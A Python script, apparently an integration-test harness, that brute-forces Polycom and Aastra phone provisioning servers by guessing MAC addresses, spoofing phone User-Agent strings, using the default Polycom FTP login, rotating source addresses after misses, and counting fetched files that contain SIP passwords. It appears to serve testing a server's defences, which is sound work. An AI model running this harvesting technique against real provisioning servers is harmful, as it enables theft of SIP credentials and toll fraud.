"""Harvesting a MAC batch, for tests/it/outage.rs (issue 28, findings 1b-1d): MACs guessed near
known ones, from SOURCES loopback addresses of one network, moving to the next address after
HOP misses, each hit's credential files fetched the way the phone would.

    batch_scan.py HOST PORT MACS_FILE SOURCES HOP [TRANSPORT [NETWORK]]

MACS_FILE lists one guess a line: `polycom <mac>` or `aastra <mac>`. TRANSPORT is http (the
default: both vendors), ftp (Polycom guesses, with the phones' public login) or tftp (Aastra
guesses); PORT is that transport's. Sources are 127.0.NETWORK.1, .2, ... (NETWORK 1 by
default). Prints {"passwords": N (files with a SIP password received), "masters": M (phone
master files received, Polycom's or Aastra's), "requests": R}.
"""

import ftplib
import http.client
import io
import json
import socket
import struct
import sys

HOST, PORT = sys.argv[1], int(sys.argv[2])
GUESSES = [line.split() for line in open(sys.argv[3]) if line.strip()]
TRANSPORT = sys.argv[6] if len(sys.argv) > 6 else "http"
NETWORK = int(sys.argv[7]) if len(sys.argv) > 7 else 1
SOURCES = [f"127.0.{NETWORK}.{n}" for n in range(1, int(sys.argv[4]) + 1)]
HOP = int(sys.argv[5])
POLYCOM_UA = "FileTransport PolycomVVX-VVX_400-UA/5.9.7.4477 Type/Application"

counts = {"passwords": 0, "masters": 0, "requests": 0}


def over_http(source):
    def get(name, agent):
        conn = http.client.HTTPConnection(HOST, PORT, timeout=10, source_address=(source, 0))
        conn.request("GET", "/" + name, headers={"User-Agent": agent})
        reply = conn.getresponse()
        body = reply.read()
        conn.close()
        return body if reply.status == 200 else None
    return get


def over_ftp(source):
    def get(name, _agent):
        ftp = ftplib.FTP(timeout=10, source_address=(source, 0))
        try:
            ftp.connect(HOST, PORT)
            ftp.login("PlcmSpIp", "PlcmSpIp")
            body = io.BytesIO()
            ftp.retrbinary(f"RETR {name}", body.write)
            return body.getvalue()
        except ftplib.Error:
            return None
        finally:
            ftp.close()
    return get


def over_tftp(source):
    def get(name, _agent):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.bind((source, 0))
        sock.settimeout(5)
        sock.sendto(b"\x00\x01" + name.encode() + b"\x00octet\x00", (HOST, PORT))
        body, expected = b"", 1
        try:
            while True:
                packet, sender = sock.recvfrom(65536)
                opcode, number = struct.unpack("!HH", packet[:4])
                if opcode == 5:
                    return None
                if number == expected:
                    body += packet[4:]
                    sock.sendto(struct.pack("!HH", 4, number), sender)
                    expected += 1
                    if len(packet) - 4 < 512:
                        return body
        except socket.timeout:
            return None
        finally:
            sock.close()
    return get


def config_files(master):
    text = master.decode(errors="replace")
    start = text.find('CONFIG_FILES="')
    if start < 0:
        return []
    start += len('CONFIG_FILES="')
    return [n.strip() for n in text[start:text.index('"', start)].split(",") if n.strip()]


CLIENTS = {"http": over_http, "ftp": over_ftp, "tftp": over_tftp}
VENDORS = {"http": {"polycom", "aastra"}, "ftp": {"polycom"}, "tftp": {"aastra"}}

source_at, misses = 0, 0
for vendor, mac in GUESSES:
    if source_at >= len(SOURCES) or vendor not in VENDORS[TRANSPORT]:
        continue
    get = CLIENTS[TRANSPORT](SOURCES[source_at])
    counts["requests"] += 1
    if vendor == "aastra":
        dashed = "-".join(mac[i:i + 2] for i in range(0, 12, 2)).upper()
        body = get(f"{mac.upper()}.cfg", f"Aastra6757i MAC:{dashed} V:3.3.1.4322-SIP")
        if body is not None:
            counts["masters"] += 1
            if b"password" in body:
                counts["passwords"] += 1
    else:
        body = get(f"{mac}.cfg", POLYCOM_UA)
        if body is not None:
            counts["masters"] += 1
            for name in config_files(body):
                counts["requests"] += 1
                content = get(name, POLYCOM_UA)
                if content is not None and b".auth.password" in content:
                    counts["passwords"] += 1
    if body is None:
        misses += 1
        if misses >= HOP:
            source_at, misses = source_at + 1, 0

print(json.dumps(counts))
